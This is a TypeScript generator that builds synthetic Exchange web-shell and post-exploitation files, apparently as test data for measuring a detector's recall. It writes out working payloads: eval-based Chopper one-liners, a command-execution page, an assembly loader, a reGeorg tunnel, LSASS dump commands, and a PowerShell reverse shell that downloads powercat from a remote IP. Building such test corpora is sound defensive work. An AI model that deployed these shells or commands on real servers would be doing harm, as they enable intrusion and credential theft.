// Fresh web-shell and post-exploitation samples, one builder per publicly described technique. Written
// from the technique descriptions (Microsoft, Volexity, CISA, Huntress, GTSC, HvS write-ups), never copied:
// keys, names, spacing and wrappers vary per sample so no rule can be tuned to one file.
import type { Rng } from '../rng.js';
import { ASPNET_CLIENT, ASPNET_TEMP, ECP_AUTH, OAB_FE, OWA_AUTH, SHELL_FOLDERS, SYSTEM_WEB } from './folders.js';
import { hex, ident, q, randStr, shellName, sp } from './words.js';

export interface Sample {
  /** drive-relative posix path */
  path: string;
  content: Buffer;
  technique: string;
  /** a technique specific to Exchange's exploit chains or folders (the recall target) */
  exchangeSpecific: boolean;
}

type Builder = (rng: Rng) => Omit<Sample, 'technique' | 'exchangeSpecific'>;

const txt = (s: string) => Buffer.from(s, 'latin1');
const pickFolder = (rng: Rng, list: readonly string[] = SHELL_FOLDERS) => rng.pick(list);

function chopperOneLiner(rng: Rng): string {
  const key = rng.pick([randStr(rng, rng.range(5, 16)), ident(rng), 'orange', 'Ananas', 'bingo']);
  const unsafe = rng.pick(['"unsafe"', "'unsafe'", '"unsa"+"fe"', '"Unsafe"']);
  const req = rng.pick([`Request[${q(rng)}${key}${q(rng)}]`.replace(/'/g, '"'), `Request.Item["${key}"]`, `Request.Form["${key}"]`.replace('.Form', '')]);
  if (rng.chance(0.5)) {
    return `<script language="${rng.pick(['JScript', 'Jscript', 'jscript'])}" runat="server">function Page_Load(){${sp(rng)}eval(${req},${unsafe});}</script>`;
  }
  return `<%@ Page Language="${rng.pick(['Jscript', 'JScript'])}"${rng.chance(0.5) ? ' Debug=true' : ''}%><%${sp(rng)}eval(${req},${unsafe});${sp(rng)}%>`;
}

function binaryNoise(rng: Rng, n: number): Buffer {
  const b = Buffer.alloc(n);
  for (let i = 0; i < n; i += 4) b.writeUInt32LE(rng.u32(), Math.min(i, n - 4));
  return b;
}

const OAB_FIELDS = (rng: Rng, payloadField: 'ExternalUrl' | 'InternalUrl', payload: string): string[] => {
  const host = `${rng.pick(['mail', 'owa', 'exchange', 'mx'])}.${rng.pick(['contoso', 'fabrikam', 'example', 'corp'])}.${rng.pick(['com', 'local', 'org'])}`;
  const ext = payloadField === 'ExternalUrl' ? `http://${rng.pick(['f', 'g', 'x', 'o'])}/${payload}` : `https://${host}/OAB`;
  const int = payloadField === 'InternalUrl' ? `http://${rng.pick(['f', 'g'])}/${payload}` : `https://${host}/OAB`;
  return [
    `RequireSSL                      : ${rng.pick(['True', 'False'])}`,
    `BasicAuthentication             : False`,
    `WindowsAuthentication           : True`,
    `PollInterval                    : 480`,
    `OfflineAddressBooks             : {\\Default Offline Address Book}`,
    `ExtendedProtectionTokenChecking : None`,
    `ExtendedProtectionFlags         : {}`,
    `ExtendedProtectionSPNList       : {}`,
    `InternalAuthenticationMethods   : {WindowsIntegrated}`,
    `ExternalAuthenticationMethods   : {WindowsIntegrated}`,
    `InternalUrl                     : ${int}`,
    `ExternalUrl                     : ${ext}`,
    `Name                            : OAB (Default Web Site)`,
    `Server                          : ${rng.pick(['EX01', 'MAIL1', 'EXCH2016'])}`,
    `Identity                        : ${rng.pick(['EX01', 'MAIL1'])}\\OAB (Default Web Site)`,
  ];
};

export const TECHNIQUES: Record<string, { exchangeSpecific: boolean; build: Builder }> = {
  'chopper-jscript': {
    exchangeSpecific: true,
    build: (rng) => ({ path: `${pickFolder(rng)}/${shellName(rng)}`, content: txt(chopperOneLiner(rng)) }),
  },
  'oab-config-cve-2021-27065': {
    exchangeSpecific: true,
    build: (rng) => {
      const fields = OAB_FIELDS(rng, rng.chance(0.8) ? 'ExternalUrl' : 'InternalUrl', chopperOneLiner(rng).replace(/<%@[^%]*%>/, ''));
      for (let i = fields.length - 1; i > 0; i--) {
        const j = rng.int(i + 1);
        [fields[i], fields[j]] = [fields[j] as string, fields[i] as string];
      }
      return { path: `${pickFolder(rng, [ASPNET_CLIENT, SYSTEM_WEB, OWA_AUTH, OAB_FE])}/${shellName(rng)}`, content: txt(`\r\n${fields.join('\r\n')}\r\n\r\n`) };
    },
  },
  'pst-wrapped-proxyshell': {
    exchangeSpecific: true,
    build: (rng) => {
      const size = rng.range(64, 300) * 1024;
      const b = binaryNoise(rng, size);
      b.write('!BDN', 0, 'latin1');
      const page = rng.chance(0.5) ? chopperOneLiner(rng) : `<%@ Page Language="Jscript"%><%eval(System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String(Request.Item["${ident(rng)}"])),"unsafe");%>`;
      b.write(page, rng.range(4096, size - page.length - 16), 'latin1');
      return { path: `${pickFolder(rng, [ASPNET_CLIENT, OWA_AUTH, `${OWA_AUTH}/Current`])}/${shellName(rng)}`, content: b };
    },
  },
  'der-csr-wrapped-proxyshell': {
    exchangeSpecific: true,
    build: (rng) => {
      const page = chopperOneLiner(rng);
      const body = Buffer.concat([Buffer.from([0x30, 0x82, 0x02, 0x10, 0x02, 0x01, 0x00, 0x30, 0x82, 0x01, 0x05, 0x31, 0x0b, 0x30, 0x09, 0x06, 0x03, 0x55, 0x04, 0x03, 0x0c]), txt(page), binaryNoise(rng, rng.range(300, 1500))]);
      return { path: `${pickFolder(rng, [ASPNET_CLIENT, OWA_AUTH])}/${shellName(rng)}`, content: body };
    },
  },
  'csharp-form-writer': {
    exchangeSpecific: false,
    build: (rng) => {
      const f = ident(rng, 1, 3);
      const p = ident(rng, 1, 3);
      const v = ident(rng, 2, 4);
      const body = rng.chance(0.6)
        ? `<%@ Page Language="C#"%><%System.IO.StreamWriter ${v}=new System.IO.StreamWriter(Request.Form["${f}"]);${v}.Write(Request.Form["${p}"]);${v}.Close();%>`
        : `<%@ Page Language="C#" %>\r\n<% System.IO.File.WriteAllBytes(Request["${f}"], System.Convert.FromBase64String(Request["${p}"])); %>`;
      return { path: `${pickFolder(rng)}/${shellName(rng)}`, content: txt(body) };
    },
  },
  'jscript-base64-eval': {
    exchangeSpecific: true,
    build: (rng) => ({
      path: `${pickFolder(rng)}/${shellName(rng)}`,
      content: txt(`<%@ Page Language="${rng.pick(['Jscript', 'JScript'])}"%><%${sp(rng)}eval(System.Text.Encoding.${rng.pick(['UTF8', 'ASCII', 'Default'])}.GetString(System.Convert.FromBase64String(Request${rng.pick(['.Item', ''])}["${ident(rng)}"])),"unsafe");%>`),
    }),
  },
  'upload-tiny': {
    exchangeSpecific: false,
    build: (rng) => {
      const v = ident(rng);
      const body = rng.chance(0.5)
        ? `<%@ Page Language="C#" %><% if (Request.Files.Count != 0) { HttpPostedFile ${v} = Request.Files[0];${sp(rng)}${v}.SaveAs(Path.Combine(Server.MapPath("."), Path.GetFileName(${v}.FileName))); } %>`
        : `<%@ Page Language="C#"%>\n<script runat="server">void Page_Load(object sender, EventArgs e){ if (Request.Files.Count > 0) Request.Files[0].SaveAs(Server.MapPath("${rng.pick(['.', '~/', '/'])}") + "\\\\" + Request.Files[0].FileName); }</script>`;
      return { path: `${pickFolder(rng)}/${shellName(rng)}`, content: txt(body) };
    },
  },
  'command-shell': {
    exchangeSpecific: false,
    build: (rng) => {
      const c = ident(rng, 2, 5);
      const shell = rng.pick(['cmd.exe', 'powershell.exe']);
      const flag = shell === 'cmd.exe' ? '/c ' : '-nop -c ';
      const body = `<%@ Page Language="C#" Debug="false" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
protected void ${ident(rng)}(object s, EventArgs e) {
  ProcessStartInfo psi = new ProcessStartInfo();
  psi.FileName = "${shell}";
  psi.Arguments = "${flag}" + Request.Form["${c}"];
  psi.RedirectStandardOutput = true;
  psi.UseShellExecute = false;
  Process p = Process.Start(psi);
  ${ident(rng)}.Text = Server.HtmlEncode(p.StandardOutput.ReadToEnd());
}
</script>
<html><body><form runat="server"><input name="${c}" /><asp:Button runat="server" Text="${rng.pick(['Run', 'Go', 'OK'])}" /><pre><asp:Literal runat="server" /></pre></form></body></html>
`;
      return { path: `${pickFolder(rng)}/${shellName(rng)}`, content: txt(body) };
    },
  },
  'assembly-loader': {
    exchangeSpecific: false,
    build: (rng) => {
      const k = hex(rng, 16);
      const cls = randStr(rng, rng.range(1, 3));
      const body = rng.chance(0.5)
        ? `<%@ Page Language="C#"%><%@Import Namespace="System.Reflection"%><%Session.Add("k","${k}");byte[] k=Encoding.Default.GetBytes(Session[0]+""),c=Request.BinaryRead(Request.ContentLength);Assembly.Load(new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(k,k).TransformFinalBlock(c,0,c.Length)).CreateInstance("${cls}").Equals(this);%>`
        : `<%@ Page Language="C#" %><%@ Import Namespace="System.Reflection" %>\r\n<% if (Request.Form["${ident(rng)}"] != null) { var a = Assembly.Load(Convert.FromBase64String(Request.Form["${ident(rng)}"])); a.CreateInstance("${cls}").Equals(Context); } %>`;
      return { path: `${pickFolder(rng)}/${shellName(rng)}`, content: txt(body) };
    },
  },
  'regeorg-tunnel': {
    exchangeSpecific: false,
    build: (rng) => {
      const h = rng.pick(['X-CMD', 'X-Cmd', `X-${randStr(rng, 4).toUpperCase()}`]);
      const body = `<%@ Page Language="C#" EnableSessionState="True"%>
<%@ Import Namespace="System.Net" %>
<%@ Import Namespace="System.Net.Sockets" %>
<%
  String cmd = Request.Headers.Get("${h}");
  if (cmd != null) {
    Response.AddHeader("X-STATUS", "OK");
    if (cmd == "CONNECT") {
      String target = Request.Headers.Get("X-TARGET");
      int port = int.Parse(Request.Headers.Get("X-PORT"));
      IPAddress ip = IPAddress.Parse(target);
      Socket ${ident(rng)} = new Socket(ip.AddressFamily, SocketType.Stream, ProtocolType.Tcp);
      Session["socket"] = ${'s'};
    } else if (cmd == "DISCONNECT") {
      Session.Abandon();
    } else if (cmd == "FORWARD") {
      Socket s = (Socket)Session["socket"];
      int n = Request.ContentLength; byte[] buf = new byte[n]; Request.InputStream.Read(buf, 0, n); s.Send(buf);
    } else if (cmd == "READ") {
      Socket s = (Socket)Session["socket"]; byte[] buf = new byte[${rng.pick([512, 1024, 4096])}];
      int c = s.Receive(buf); Response.BinaryWrite(buf);
    }
  } else { Response.Write("${rng.pick(['Georg says, All seems fine', 'OK', ''])}"); }
%>`;
      return { path: `${pickFolder(rng)}/${shellName(rng)}`, content: txt(body) };
    },
  },
  'xsl-transform': {
    exchangeSpecific: false,
    build: (rng) => {
      const body = `<%@ Page Language="C#" %><%@ Import Namespace="System.Xml" %><%@ Import Namespace="System.Xml.Xsl" %>
<% XmlDocument d = new XmlDocument(); d.LoadXml(System.Text.Encoding.UTF8.GetString(Convert.FromBase64String(Request["${ident(rng)}"])));
XslCompiledTransform t = new XslCompiledTransform(); XsltSettings s = new XsltSettings(); s.EnableScript = true;
t.Load(d, s, new XmlUrlResolver()); t.Transform(d, null, new System.IO.MemoryStream()); %>`;
      return { path: `${pickFolder(rng)}/${shellName(rng)}`, content: txt(body) };
    },
  },
  'edr-check-page': {
    exchangeSpecific: true,
    build: (rng) => ({
      path: `${pickFolder(rng)}/${shellName(rng)}`,
      content: txt(`<%@ Page Language="C#" %><% foreach (string n in new string[] {"xagt.exe", "csfalconservice.exe"}) { if (System.Diagnostics.Process.GetProcessesByName(n.Replace(".exe","")).Length > 0) Response.Write(n + ";"); } %>`),
    }),
  },
  'compiled-appweb': {
    exchangeSpecific: true,
    build: (rng) => {
      const size = rng.range(5, 40) * 1024;
      const b = binaryNoise(rng, size);
      b.write('MZ', 0, 'latin1');
      b.writeUInt32LE(0x80, 0x3c);
      b.write('PE\0\0', 0x80, 'latin1');
      let at = 0x400;
      for (const s of ['get_Request', rng.pick(['get_Files', 'JScriptEvaluate']), 'System.Web', `App_Web_${randStr(rng, 8, 'abcdefghijklmnopqrstuvwxyz0123456789')}`]) at += b.write(`${s}\0`, at, 'latin1') + rng.range(8, 64);
      const vpath = rng.pick([`~/aspnet_client/${shellName(rng)}`, `~/auth/${shellName(rng)}`, `/owa/auth/${shellName(rng)}`]);
      b.write(vpath, at + 32, 'utf16le');
      return { path: `${ASPNET_TEMP}/${hex(rng, 8)}/${hex(rng, 8)}/App_Web_${randStr(rng, 8, 'abcdefghijklmnopqrstuvwxyz0123456789')}.dll`, content: b };
    },
  },
  'lsass-minidump': {
    exchangeSpecific: true,
    build: (rng) => {
      const size = rng.range(256, 1024) * 1024;
      const b = Buffer.alloc(size);
      b.write('MDMP', 0, 'latin1');
      b.writeUInt32LE(0xa793, 4);
      b.writeUInt32LE(rng.range(10, 17), 8);
      let at = rng.range(0x200, 0x2000);
      for (const m of ['C:\\Windows\\System32\\lsass.exe', 'C:\\Windows\\System32\\lsasrv.dll', 'C:\\Windows\\System32\\msv1_0.dll', 'C:\\Windows\\System32\\wdigest.dll']) at += b.write(m, at, 'utf16le') + rng.range(16, 400);
      const name = rng.pick(['lsass.dmp', 'lsass.zip.dmp', `lsass_${hex(rng, 4)}.dmp`, `${randStr(rng, 3)}.dmp`, `${randStr(rng, 6)}.tmp`]);
      return { path: `${rng.pick(['Windows/Temp', 'ProgramData', 'root', 'inetpub/wwwroot/aspnet_client', 'Users/Public'])}/${name}`, content: b };
    },
  },
  'credential-dump-tool': {
    exchangeSpecific: false,
    build: (rng) => {
      const b = binaryNoise(rng, rng.range(40, 200) * 1024);
      b.write('MZ', 0, 'latin1');
      let at = 0x1000;
      for (const s of ['sekurlsa::logonpasswords', 'privilege::debug', 'lsadump::sam', rng.pick(['gentilkiwi', 'kerberos::golden'])]) at += b.write(s, at, rng.chance(0.5) ? 'utf16le' : 'latin1') + rng.range(32, 512);
      return { path: `${rng.pick(['ProgramData', 'Windows/Temp', 'Users/Public'])}/${rng.pick(['m.exe', 'x64.exe', 'calcx.exe', 'Dump.exe', `${randStr(rng, 5)}.exe`])}`, content: b };
    },
  },
  'lsass-dump-script': {
    exchangeSpecific: false,
    build: (rng) => {
      const pid = rng.range(500, 1200);
      const line = rng.chance(0.5)
        ? `rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump ${pid} C:\\Windows\\Temp\\${randStr(rng, 4)}.dmp full`
        : `procdump64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\lsass.dmp`;
      return { path: `${rng.pick(['Windows/Temp', 'ProgramData'])}/${randStr(rng, rng.range(1, 4))}.bat`, content: txt(`@echo off\r\n${line}\r\n`) };
    },
  },
  'reverse-shell-script': {
    exchangeSpecific: false,
    build: (rng) => {
      const body = rng.chance(0.5)
        ? `IEX (New-Object System.Net.Webclient).DownloadString('http://${rng.range(11, 200)}.${rng.range(1, 250)}.${rng.range(1, 250)}.${rng.range(1, 250)}/powercat.ps1'); powercat -c ${rng.range(11, 200)}.${rng.range(1, 250)}.0.${rng.range(1, 250)} -p ${rng.range(80, 9000)} -e cmd`
        : `$client = New-Object System.Net.Sockets.TCPClient('${rng.range(11, 200)}.1.2.${rng.range(1, 250)}',${rng.range(80, 9000)});$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%{0};while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){;$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);$sendback = (iex $data 2>&1 | Out-String );}`;
      return { path: `${rng.pick(['ProgramData', 'Windows/Temp'])}/${randStr(rng, rng.range(1, 6))}.ps1`, content: txt(body) };
    },
  },
  'staged-archive': {
    exchangeSpecific: true,
    build: (rng) => {
      const kind = rng.pick(['zip', '7z', 'rar']);
      const head = kind === 'zip' ? Buffer.from('PK\x03\x04\x14\x00\x00\x00\x08\x00', 'latin1') : kind === '7z' ? Buffer.from([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0, 4]) : Buffer.from('Rar!\x1a\x07\x01\x00', 'latin1');
      const inner = txt(`${rng.pick(['mailbox', 'ceo', 'export', 'pst'])}${rng.range(1, 9)}.pst`);
      const content = Buffer.concat([head, binaryNoise(rng, 20), inner, binaryNoise(rng, rng.range(2, 64) * 1024)]);
      return { path: `ProgramData/${rng.pick(['it', 'pst', 'a', 'out', randStr(rng, rng.range(1, 6))])}.${kind}`, content };
    },
  },
  'recon-cab': {
    exchangeSpecific: false,
    build: (rng) => {
      const b = binaryNoise(rng, rng.range(8, 64) * 1024);
      b.write('MSCF', 0, 'latin1');
      let at = 0x2c;
      for (const s of ['ip.txt', 'arp.txt', 'system', 'security']) at += b.write(`${s}\0`, at + 16, 'latin1') + 16;
      return { path: `${rng.pick(['ProgramData', 'Windows/Temp'])}/${randStr(rng, rng.range(1, 4))}.cab`, content: b };
    },
  },
  'novel-page-in-auth-folder': {
    // No content rule knows it: only the baseline (not a stock file, named like one) and the folder tell.
    exchangeSpecific: true,
    build: (rng) => {
      const name = rng.pick(['errorEE.aspx', 'errorFF.aspx', 'OutlookEN.aspx', 'OutlookJP.aspx', 'RedirSuiteServerProxy.aspx', 'logonn.aspx', 'expiredpasswords.aspx', 'signout2.aspx', 'frowney.aspx']);
      const body = `<%@ Page Language="VB" %><% Dim ${ident(rng)} As Object = CallByName(Me, "${rng.pick(['Response', 'Context'])}", CallType.Get) : ${ident(rng)}.GetType() %>`;
      return { path: `${OWA_AUTH}/${name}`, content: txt(body) };
    },
  },
  'novel-page-in-ecp-auth': {
    exchangeSpecific: true,
    build: (rng) => ({ path: `${ECP_AUTH}/${rng.pick(['TimeoutLogoff.aspx', 'Logout.aspx', `${randStr(rng, 6)}.aspx`, 'TimeoutLogout1.aspx'])}`, content: txt(`<%@ Page Language="C#" %><!-- ${hex(rng, 12)} --><% Response.Write(DateTime.Now.Ticks); %>`) }),
  },
  'novel-page-in-aspnet-client': {
    exchangeSpecific: true,
    build: (rng) => ({ path: `${rng.pick([ASPNET_CLIENT, SYSTEM_WEB])}/${shellName(rng)}`, content: txt(`<%@ Page Language="C#" %><% Response.Write(Environment.MachineName + "${randStr(rng, 4)}"); %>`) }),
  },
};

export function generateShellSamples(rng: Rng, perTechnique: number): Sample[] {
  const out: Sample[] = [];
  const used = new Set<string>();
  for (const [technique, t] of Object.entries(TECHNIQUES)) {
    const r = rng.fork(technique);
    for (let i = 0; i < perTechnique; i++) {
      let s = t.build(r);
      for (let k = 0; used.has(s.path.toLowerCase()) && k < 20; k++) s = t.build(r);
      if (used.has(s.path.toLowerCase())) continue;
      used.add(s.path.toLowerCase());
      out.push({ ...s, technique, exchangeSpecific: t.exchangeSpecific });
    }
  }
  return out;
}
